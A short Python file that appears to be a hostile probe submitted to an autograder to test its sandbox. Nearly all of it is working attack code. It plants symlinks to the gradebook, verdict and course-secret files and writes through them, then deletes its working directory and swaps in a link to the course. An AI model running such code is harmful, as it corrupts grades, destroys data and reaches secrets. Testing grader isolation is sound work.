"""Links in the working folder lead to the course; whoever follows them writes there.

stock: no
"""

import os
import shutil

COURSE = "@COURSE@"
for name in ("gradebook.db", ".verdicts", "autograded", "feedback", "submitted", ".course_secret", "source"):
    for link in (name, f"/tmp/{name}", f"/dev/shm/{name}", os.path.expanduser(f"~/{name}")):
        try:
            os.symlink(os.path.join(COURSE, name), link)
            with open(link, "a") as file:
                file.write("left behind")
            print("achieved", name)
        except OSError:
            pass
for name in ("checks.json", "toolbox"):
    try:
        os.unlink(name)
        os.symlink("../../../../@COURSE@/gradebook.db", name)
        os.link(name, "hard")
    except OSError:
        pass
here = os.getcwd()
os.chdir("/scratch")
shutil.rmtree(here, ignore_errors=True)
os.symlink(COURSE, here)


def answer(*given):
    return 0.0
